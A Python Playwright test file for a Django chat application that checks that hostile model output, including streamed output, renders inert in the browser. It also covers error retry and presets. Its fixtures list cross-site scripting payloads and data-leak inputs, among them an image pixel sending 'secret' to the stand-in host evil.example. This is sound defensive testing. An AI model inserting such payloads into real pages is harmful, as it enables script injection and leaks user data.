"""Chatting in a real browser: live daphne, real worker, real engine."""

from __future__ import annotations

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from conftest import screenshot, session_cookie, turn_job
from conversations.models import Conversation, Message

pytestmark = [
    pytest.mark.browser,  # `worker` comes from the fixtures of the tests that need an engine
    pytest.mark.django_db(transaction=True),
    pytest.mark.timeout(300),
]

XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    '<a href="javascript:alert(1)">link</a>',
    '<iframe src="https://example.org"></iframe>',
    "```html\n<script>alert(1)</script>\n```",
]


def signed_in_page(new_page, live_daphne, user):
    page = new_page()
    page.context.add_cookies([{"name": "sessionid", "value": session_cookie(user), "url": live_daphne.url}])
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.dialogs = dialogs
    return page


def test_hostile_model_output_stays_inert_while_it_streams(live_daphne, new_page, users, gpt_oss):
    """The model itself (scripted) streams the hostile list through the real path into the page."""
    from openai_harmony import HarmonyEncodingName, load_harmony_encoding

    from conversations.jobs import enqueue
    from inference_worker.presence import new_request_id

    encoding = load_harmony_encoding(HarmonyEncodingName.HARMONY_GPT_OSS)
    hostile = "\n\n".join(XSS)
    script = encoding.encode(f"<|channel|>final<|message|>{hostile}<|return|>", allowed_special="all")
    conversation = Conversation.objects.create(owner=users.alice, model=gpt_oss, title="t", title_auto=False)
    question = Message.objects.create(conversation=conversation, role="user", content="Say something nasty.")
    request_id = new_request_id()
    answer = Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        status="queued",
        request_id=request_id,
        model_name=gpt_oss.name,
    )
    page = signed_in_page(new_page, live_daphne, users.alice)
    frames: list[str] = []
    page.on("websocket", lambda ws: ws.on("framereceived", lambda payload: frames.append(payload)))
    page.goto(f"{live_daphne.url}/c/{conversation.pk}/")
    for _ in range(100):  # the page follows the queued answer before the job starts
        if any('"type": "resume"' in f for f in frames):
            break
        page.wait_for_timeout(100)
    assert any('"type": "resume"' in f for f in frames), frames
    job = turn_job(
        request_id=request_id,
        message_id=answer.pk,
        user_id=users.alice.pk,
        model=gpt_oss.name,
        messages=[{"role": "user", "content": question.content}],
        params={"max_tokens": len(script) + 8},
        script=script,
    )
    enqueue(job, gpt_oss.queue)
    try:
        page.locator(".message.assistant .status", has_text="Done").wait_for(timeout=180_000)
    except PlaywrightTimeout:
        answer.refresh_from_db()
        screenshot(page, "hostile-stream-failure")
        raise AssertionError(f"no Done; stored {answer.status!r}; last frames {frames[-5:]}") from None
    assert sum('"type": "delta"' in f for f in frames) >= 2, "it streamed"
    answer.refresh_from_db()
    assert answer.content == hostile
    assert_inert(page)
    accept_the_refused_payload(new_page)


def accept_the_refused_payload(new_page) -> None:
    """DOMPurify parses hostile text in a scratch document, where Chromium reports the
    payload's inline handler as refused by the Content-Security-Policy: the policy doing
    its job on the payload, not a page of ours breaking it. Anything else still fails."""
    violations = new_page.csp_violations
    assert all("inline event handler" in v or "script-src-attr" in v for v in violations), violations
    violations.clear()


def assert_inert(page) -> None:
    pane = page.locator("[data-testid=messages]")
    assert page.dialogs == []
    assert pane.locator("script, iframe, object, embed").count() == 0
    assert pane.locator("[onerror], [onload]").count() == 0
    for href in pane.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))"):
        assert href is None or not href.lower().startswith(("javascript:", "data:"))
    for src in pane.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))"):
        assert src is None or not src.lower().startswith(("javascript:", "data:"))
    # the fenced HTML is shown as code, not run
    assert "<script>alert(1)</script>" in pane.locator(".message.assistant pre code").first.inner_text()


# Beyond script: answers must not load anything, leave the site, or pose as the page.
LEAKS = [
    "![leak](https://evil.example/pixel?q=secret)",
    '<img src="/admin/conversations/conversation/1/change/">',
    "[protocol-relative](//evil.example/x)",
    '<span id="sb-model">pwned</span>',
]


def test_hostile_markdown_stays_inert(live_daphne, new_page, users, fake_worker):
    conversation = Conversation.objects.create(owner=users.alice, model=fake_worker)
    question = Message.objects.create(conversation=conversation, role="user", content="\n\n".join(XSS))
    Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        status="done",
        content="\n\n".join(XSS + LEAKS),
    )
    requests: list[str] = []
    page = signed_in_page(new_page, live_daphne, users.alice)
    page.on("request", lambda request: requests.append(request.url))
    page.goto(f"{live_daphne.url}/c/{conversation.pk}/")
    page.locator(".message.assistant").wait_for()
    page.wait_for_timeout(500)
    assert_inert(page)
    pane = page.locator("[data-testid=messages]")
    assert pane.locator("img").count() == 0, "answers load no images"
    assert not [u for u in requests if "evil.example" in u or "/admin/" in u], requests
    assert pane.get_by_role("link", name="🖼 leak").get_attribute("href") == "https://evil.example/pixel?q=secret"
    assert pane.locator("a", has_text="protocol-relative").get_attribute("href") is None
    assert page.locator("#sb-model").inner_text() != "pwned"  # the page's own status bar, not the answer's
    assert pane.locator("#user-content-sb-model").count() == 1
    # what the person typed is shown as typed
    assert page.locator(".message.user [data-testid=content]").inner_text() == "\n\n".join(XSS)
    accept_the_refused_payload(new_page)


def test_errors_show_in_place_and_retry_and_presets_work(live_daphne, new_page, users, smollm2):
    from conversations.models import Preset
    from inference_worker.models import ChatModel

    ChatModel.objects.create(name="offline-model", display_name="Offline model", path="/none", queue="offline")
    Preset.objects.create(name="Terse", description="one line", model=smollm2, system_prompt="Answer in one line.")
    conversation = Conversation.objects.create(owner=users.alice, model=smollm2, title="t", title_auto=False)
    question = Message.objects.create(conversation=conversation, role="user", content="What is the capital of France?")
    Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        status="failed",
        content="The capital of",
        error="The worker writing this answer stopped responding; the partial answer is kept. Retry to try again.",
    )
    page = signed_in_page(new_page, live_daphne, users.alice)
    page.goto(f"{live_daphne.url}/c/{conversation.pk}/")

    # a model without a worker is listed, but unavailable, with the reason
    offline = page.locator("#model option[value=offline-model]")
    assert offline.is_disabled()
    assert offline.inner_text().endswith("(unavailable: No worker is running for this model.)")

    # a failed answer keeps its partial text, says why, and offers a retry that works
    failed = page.locator(".message.assistant").first
    assert failed.get_by_test_id("content").inner_text() == "The capital of"
    assert "stopped responding" in failed.locator(".status").inner_text()
    failed.get_by_test_id("retry").click()
    page.locator(".message.assistant .status", has_text="Done").wait_for(timeout=180_000)
    assert page.locator(".message.assistant [data-testid=content]").inner_text() == "The capital of France is Paris."
    assert page.get_by_test_id("siblings").last.inner_text().replace("\n", " ").split()[1] == "2/2"

    # a message over the limit: the reason with the numbers, the text stays in the composer
    page.fill("[data-testid=prompt]", "x" * 100_001)
    page.get_by_test_id("send").click()
    page.get_by_test_id("notice").get_by_text("This message is 100,001 characters; the limit is 100,000.").wait_for()
    assert len(page.input_value("[data-testid=prompt]")) == 100_001
    assert Message.objects.filter(conversation=conversation).count() == 3

    # presets sit beside the models in a new chat's picker, and start the chat with their settings
    page.get_by_test_id("new-chat").click()
    page.wait_for_load_state()
    preset = page.locator("#model optgroup[label=Presets] option", has_text="Terse")
    assert preset.inner_text() == "Terse — one line"
    page.select_option("#model", preset.get_attribute("value"))
    page.fill("[data-testid=prompt]", "What is the capital of France?")
    page.keyboard.press("Enter")
    page.locator(".message.assistant .status", has_text="Done").wait_for(timeout=180_000)
    started = Conversation.objects.exclude(pk=conversation.pk).get(owner=users.alice)
    assert started.preset.name == "Terse" and started.system_prompt == "Answer in one line."
    assert page.dialogs == []
